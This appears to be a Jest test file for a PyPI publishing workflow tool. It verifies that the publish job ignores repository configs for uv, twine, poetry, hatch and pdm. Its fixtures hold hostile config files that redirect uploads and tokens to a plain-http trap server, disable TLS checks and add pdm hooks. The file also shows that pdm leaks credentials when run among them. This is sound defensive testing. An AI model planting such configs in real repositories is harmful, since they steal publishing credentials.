/**
 * The job that holds the token never hands its uploader a file the repository controls. A repository whose
 * pyproject.toml, uv.toml, poetry.toml, pdm.toml, hatch.toml and .pypirc all point uploads at another server (plain
 * http), turn TLS checks off, add uploader options, require a poetry plugin and define pdm hooks: each uploader, run
 * by the generated publish job against the emulator, uploads to the index the workflow names and nothing reaches the
 * other server. The same files in the publish job's workspace (where a full checkout would put them, and where the
 * uploader used to run) change nothing. GitLab's publish job, run with each uploader in a checkout that holds the
 * files, likewise uploads where its pipeline says. And the files are not toothless: pdm run where they are sends its upload, the
 * token included, to the other server.
 */
import { copyFileSync, existsSync, mkdirSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { parse, stringify } from 'yaml';
import { Uploader } from '../../src';
import { uploaderSpec } from '../../src/component/uploader';
import type { Emulator } from '../../src/emulator';
import { tempDir } from '../../src/rehearsal/temp-dirs';
import { startTestEmulator } from '../support/emulator';
import { rehearseGitlabSample, synthesizeGitlabSample } from '../support/gitlab-run';
import * as leaks from '../support/leaks';
import { runPublishJob } from '../support/publish-run';
import { buildDists, BuiltDists } from '../support/python-dists';
import { emulatorPublisher, synthesizeSampleRelease } from '../support/sample-release';
import { requireTool, runTool, tool, toolEnv } from '../support/tools';

jest.setTimeout(300_000);

/** A plain-http server on loopback that counts what reaches it (and says yes to everything). */
interface Trap {
  readonly url: string;
  readonly requests: string[];
  close(): Promise<void>;
}

async function startTrap(): Promise<Trap> {
  const requests: string[] = [];
  const server: Server = createServer((req, res) => {
    // the method and path only: a request that reached here may carry the token
    requests.push(`${req.method} ${req.url?.split('?')[0]}`);
    req.resume();
    req.on('end', () => {
      res.writeHead(200, { 'content-type': 'text/html' });
      res.end('<html><body></body></html>');
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return { url: `http://127.0.0.1:${port}/legacy/`, requests, close: () => new Promise((resolve) => server.close(() => resolve())) };
}

/** Every file through which a repository configures one of the uploaders, each pointing at `trap`. */
function hostileFiles(trap: string, name: string): Record<string, string> {
  const simple = trap.replace(/legacy\/$/, 'simple/');
  return {
    'pyproject.toml': [
      '[project]', `name = "${name}"`, 'version = "1.0.0"', '',
      // pdm: extra options for every `pdm publish`, and hooks around it
      '[tool.pdm.options]', `publish = ["--repository", "${trap}", "--no-verify-ssl", "--username", "__token__"]`, '',
      '[tool.pdm.scripts]', 'pre_publish = "touch PWNED-pdm"', 'post_publish = "touch PWNED-pdm"', '',
      // uv: its own publish and check URLs, an index to publish to, TLS off for the trap's host
      '[tool.uv]', `publish-url = "${trap}"`, `check-url = "${simple}"`, 'allow-insecure-host = ["127.0.0.1"]', '',
      '[[tool.uv.index]]', 'name = "trap"', `url = "${simple}"`, `publish-url = "${trap}"`, 'default = true', '',
      // poetry: a plugin it must install (from the trap) before any command, and the trap as a source
      '[tool.poetry.requires-plugins]', 'poetry-trap-plugin = ">=0"', '',
      '[[tool.poetry.source]]', 'name = "upload"', `url = "${simple}"`, 'priority = "primary"', '',
      // hatch: the publisher switched off (a --no-prompt run would then refuse to publish) and the trap as its index
      '[tool.hatch.publish.index]', `repo = "${trap}"`, 'disable = true', '',
    ].join('\n'),
    'uv.toml': [`publish-url = "${trap}"`, `check-url = "${simple}"`, 'allow-insecure-host = ["127.0.0.1"]', 'native-tls = true', ''].join('\n'),
    'poetry.toml': ['[repositories.upload]', `url = "${trap}"`, '', '[certificates.upload]', 'cert = false', ''].join('\n'),
    'pdm.toml': ['[repository.pypi]', `url = "${trap}"`, 'verify_ssl = false', 'username = "__token__"', ''].join('\n'),
    'hatch.toml': ['[publish.index]', `repo = "${trap}"`, 'disable = true', ''].join('\n'),
    '.pypirc': ['[distutils]', 'index-servers = pypi', '', '[pypi]', `repository = ${trap}`, 'username = __token__', ''].join('\n'),
  };
}

function writeFiles(dir: string, files: Record<string, string>): void {
  mkdirSync(dir, { recursive: true });
  for (const [name, text] of Object.entries(files)) writeFileSync(join(dir, name), text);
}

const UPLOADERS: Array<[string, Uploader]> = [
  ['Uploader.UV', Uploader.UV],
  ['Uploader.TWINE', Uploader.TWINE],
  ['Uploader.POETRY', Uploader.POETRY],
  ['Uploader.HATCH', Uploader.HATCH],
  ['Uploader.PDM', Uploader.PDM],
];

/** The uploaders whose repository configuration the GitLab publish job must ignore. */
const GITLAB_UPLOADERS = UPLOADERS;
const GITLAB_PROJECT = 'octo-group/demo';

const maybe = requireTool('uv', 'python', 'pdm') ? describe : describe.skip;

maybe('a repository whose configuration points every uploader elsewhere', () => {
  let trap: Trap;
  let dists: BuiltDists;
  const name = 'pypi-mint-sample';

  beforeAll(async () => {
    trap = await startTrap();
    dists = buildDists(synthesizeSampleRelease({ flavour: 'setuptools', name }).dir);
  });
  afterAll(async () => trap.close());

  test.each(UPLOADERS)('%s, run by the publish job, uploads to the index the workflow names and nothing reaches the other server', async (_label, uploader) => {
    const sample = synthesizeSampleRelease({ flavour: 'setuptools', name, release: { uploader, attestations: false } });
    // in the repository (a checkout of any of them would bring them along) ...
    writeFiles(sample.dir, hostileFiles(trap.url, name));
    const emulator: Emulator = await startTestEmulator({ projects: [name], publishers: [emulatorPublisher(sample.trustedPublishers[0])] });
    const before = trap.requests.length;
    const job = await runPublishJob(sample, dists, emulator, {
      // ... and in the job's workspace before the upload, next to dist/, where the uploader used to run
      beforeStep: (step, _index, _done, dir) => {
        if (step.id === 'upload') writeFiles(dir, hostileFiles(trap.url, name));
      },
    });
    const failed = job.steps.find((s) => s.outcome === 'failure');
    expect(`${job.conclusion}\n${failed?.id ?? ''}\n${failed?.log ?? ''}`).toBe('success\n\n');
    expect(trap.requests.slice(before)).toEqual([]);
    expect(emulator.uploads().map((u) => [u.filename, u.sha256]).sort()).toEqual(dists.files.map((f) => [f.filename, f.sha256]).sort());
    expect(job.log).not.toContain(job.step('mint').outputs['api-token']);
  });

  test.each(GITLAB_UPLOADERS)('%s, run by the GitLab publish job in a checkout that holds them, uploads to the index the pipeline names', async (_label, uploader) => {
    const sample = synthesizeGitlabSample(name, { projectPath: GITLAB_PROJECT, uploader, attestations: false });
    // the checkout the publish job runs in: the repository's files, and dist/ as the build job's artifact puts it
    writeFiles(sample.dir, hostileFiles(trap.url, name));
    mkdirSync(join(sample.dir, 'dist'));
    for (const f of dists.files) copyFileSync(f.path, join(sample.dir, 'dist', f.filename));
    // only the publish job: the build job's dist/ is already in place
    const doc = parse(sample.pipelineText) as Record<string, { needs?: Array<{ job: string }>; script: string[] }>;
    delete doc.build;
    const publish = doc['publish-pypi'];
    publish.needs = publish.needs?.filter((n) => n.job !== 'build');
    // uv from this machine's pinned tools instead of a fresh venv and pip install (about 15 s, run for real by the
    // GitLab end-to-end test); Node, the uploader, the scratch directory, the mint step and the upload run as generated
    const uvInstall = publish.script[0].split('\n');
    expect([uvInstall[0], uvInstall[3]]).toEqual(['python3 -m venv "${TMPDIR:-/tmp}/pypi-mint-tools"/uv', 'export PATH="${TMPDIR:-/tmp}/pypi-mint-tools"/bin:"$PATH"']);
    publish.script[0] = ['mkdir -p "${TMPDIR:-/tmp}/pypi-mint-tools/bin"', `ln -sf ${tool('uv')} "\${TMPDIR:-/tmp}/pypi-mint-tools/bin/uv"`, uvInstall[3]].join('\n');
    const emulator: Emulator = await startTestEmulator({
      projects: [name],
      gitlabPublishers: [{ projects: [name], namespace: 'octo-group', project: 'demo', workflowFilepath: '.gitlab-ci.yml', environment: 'pypi' }],
    });
    const before = trap.requests.length;
    const runs = await rehearseGitlabSample(emulator, sample, {
      projectPath: GITLAB_PROJECT,
      pipelineText: stringify(doc),
      onOutput: (job, text) => leaks.recordOutput(`gitlab job ${job} (${_label})`, text, false),
    });
    const job = runs.find((r) => r.name === 'publish-pypi')!;
    expect(`${job.exitCode}\n${job.exitCode === 0 ? '' : job.output}`).toBe('0\n');
    expect(trap.requests.slice(before)).toEqual([]);
    expect(emulator.uploads().map((u) => [u.filename, u.sha256]).sort()).toEqual(dists.files.map((f) => [f.filename, f.sha256]).sort());
    expect(existsSync(join(sample.dir, 'PWNED-pdm'))).toBe(false);
  });

  test('the files have teeth: pdm run where they are sends its upload, with the credentials, to the other server', async () => {
    const dir = tempDir('hostile-pdm-');
    writeFiles(dir, hostileFiles(trap.url, name));
    mkdirSync(join(dir, 'dist'));
    for (const f of dists.files) copyFileSync(f.path, join(dir, 'dist', f.filename));
    const before = trap.requests.length;
    const spec = uploaderSpec(Uploader.PDM);
    // what the upload step used to run, in the project's directory, with a stand-in for the minted token
    const env = spec.env('pypi-stand-in-for-the-minted-token', 'https://127.0.0.1:1/legacy/', 'https://127.0.0.1:1/simple/');
    const run = await runTool(tool('pdm'), ['publish', '--no-build', '--skip=:all'], { cwd: dir, env: toolEnv(env), timeoutMs: 60_000 });
    leaks.recordOutput('pdm in the hostile project stdout', run.stdout, true);
    leaks.recordOutput('pdm in the hostile project stderr', run.stderr, false);
    expect(trap.requests.slice(before).some((r) => r.startsWith('POST /legacy/'))).toBe(true);
  });
});
